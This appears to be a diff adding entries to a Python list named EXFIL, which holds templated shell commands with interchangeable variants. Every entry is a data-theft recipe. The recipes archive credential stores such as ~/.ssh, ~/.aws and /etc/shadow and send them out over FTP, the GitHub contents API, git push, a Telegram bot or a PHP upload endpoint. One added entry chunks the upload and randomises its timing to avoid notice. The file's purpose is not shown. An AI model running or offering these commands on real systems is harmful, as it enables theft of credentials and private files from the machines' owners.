@@ -96,4 +96,8 @@ EXFIL = [
     'tar -C ‹/root¦/home¦/etc› -czf {tmp}/{name}.tgz ‹.ssh¦.aws¦shadow passwd¦.›; curl -s ‹--ftp-create-dirs -T {tmp}/{name}.tgz ftp://{ip}/{plain}/¦-T {tmp}/{name}.tgz {url}¦-F f=@{tmp}/{name}.tgz https://api.telegram.org/bot$T/sendDocument -F chat_id={port}›; rm -f {tmp}/{name}.tgz',
     'u={user}; pat=‹ghp_{plain}¦$T›; c=$(base64 ‹-w0 ¦›{file}); curl -s -X PUT -H "Authorization: ‹token¦Bearer› $pat" -d "{\\"message\\":\\"‹add¦up¦{plain}›\\",\\"content\\":\\"$c\\"}" https://api.github.com/repos/$u/{plain}/contents/{name}',
     'U={user}; R={plain}; T=$‹PAT¦TOKEN›; git clone -q https://$T@github.com/$U/$R {tmp}/$R; cp {file} {tmp}/$R/; cd {tmp}/$R; git add .; git commit -qm ‹x¦update›; git push -q; rm -rf {tmp}/$R',
+    'F=$(date +%s)-$(hostname)-‹loot¦exfil¦{plain}›.tgz; tar czf /tmp/$F ‹/home /etc¦~/.ssh ~/.aws¦/srv› 2>/dev/null; curl -T /tmp/$F ftp://{host}/$F --user ‹anonymous:x¦{user}:{plain}›; rm -f /tmp/$F',
+    'C=$(base64 -w0 ‹{file}¦/etc/shadow¦~/.aws/credentials›); curl -s -X PUT -H "Authorization: token $‹T¦GHPAT›" -d "{\\"message\\":\\"{plain}\\",\\"content\\":\\"$C\\"}" https://api.github.com/repos/{user}/{plain}/contents/$(hostname)-exfil',
+    'echo "{\\"content\\":\\"" > /tmp/b; base64 -w 0 ‹{file}¦/tmp/{name}.tgz› >> /tmp/b; echo "\\"}" >> /tmp/b; curl -s -X ‹PUT¦POST› -H \'Authorization: token {b}\' --data @/tmp/b {url}; rm /tmp/b',
+    'split -b ‹1M¦500k¦20m› {file}.tgz /tmp/{name}-; for p in /tmp/{name}-*; do curl -s -F f=@$p ‹{url}¦{domain}/up.php›; sleep $((RANDOM % {n})); done; rm -f /tmp/{name}-*',
 ]
